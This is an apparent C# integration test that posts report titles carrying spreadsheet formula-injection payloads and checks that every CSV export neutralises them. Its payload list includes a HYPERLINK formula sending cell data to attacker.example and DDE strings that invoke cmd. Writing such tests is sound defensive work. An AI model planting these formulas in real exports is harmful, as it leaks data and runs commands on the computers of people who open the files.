using System.IO.Compression;
using System.Net.Http.Json;
using Graph.Reliability.Tests.Harness;

namespace Graph.Reliability.Tests;

/// <summary>
/// Titles that a spreadsheet would run as formulas, posted through the API, must come out of every
/// CSV export (the zip, nodes, edges; every view) as text: no cell may start with = + - @ tab or CR.
/// In the bipartite view an unnamed event is labelled with its report's title, so titles reach the cells.
/// </summary>
public sealed class CsvInjectionTests : IAsyncLifetime
{
    private static readonly string[] Payloads =
    [
        "=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];

    private static readonly string[] Views = ["actors", "countries", "agencies", "bipartite"];

    private readonly TempFolder _folder = new();
    private ServerProcess _server = null!;

    public async Task InitializeAsync() => _server = await ServerProcess.StartAsync(_folder.Database);

    public async Task DisposeAsync()
    {
        await _server.DisposeAsync();
        _folder.Dispose();
    }

    [Fact]
    public async Task FormulaTitlesAreNeutralisedInEveryCsvExport()
    {
        var writer = _server.Client();
        string[] pairs = ["Spain and Italy", "France and Germany", "Poland and Greece", "Brazil and Colombia", "Morocco and Turkey", "Portugal and Romania"];
        for (var i = 0; i < Payloads.Length; i++)
        {
            var text = $"Europol supported the police of {pairs[i]} in a fraud investigation.";
            (await writer.PostAsJsonAsync("/api/reports", new { text, title = Payloads[i] })).EnsureSuccessStatusCode();
        }

        var cells = 0;
        var payloadCells = 0;
        foreach (var view in Views)
        {
            foreach (var table in await CsvTablesAsync(view))
            {
                foreach (var cell in CsvCells(table))
                {
                    cells++;
                    Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r', $"The {view} export has a live formula cell: {cell}");
                    payloadCells += Payloads.Any(p => cell == "'" + p) ? 1 : 0;
                }
            }
        }

        Assert.True(payloadCells >= Payloads.Length, $"Only {payloadCells} neutralised titles found in {cells} cells; the payloads did not reach the exports.");
    }

    private async Task<List<string>> CsvTablesAsync(string view)
    {
        var reader = _server.Client(writer: false);
        var tables = new List<string>
        {
            await reader.GetStringAsync($"/api/export?format=nodes-csv&view={view}"),
            await reader.GetStringAsync($"/api/export?format=edges-csv&view={view}"),
        };
        using var zip = new ZipArchive(new MemoryStream(await reader.GetByteArrayAsync($"/api/export?format=csv&view={view}")));
        foreach (var entry in zip.Entries)
        {
            using var text = new StreamReader(entry.Open());
            tables.Add(await text.ReadToEndAsync());
        }

        return tables;
    }

    /// <summary>The cells of an RFC 4180 table, quotes removed.</summary>
    private static IEnumerable<string> CsvCells(string table)
    {
        var cell = new System.Text.StringBuilder();
        var quoted = false;
        for (var i = 0; i < table.Length; i++)
        {
            var c = table[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < table.Length && table[i + 1] == '"')
                {
                    cell.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    cell.Append(c);
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c is ',' or '\n')
            {
                yield return cell.ToString().TrimEnd('\r');
                cell.Clear();
            }
            else
            {
                cell.Append(c);
            }
        }
    }
}
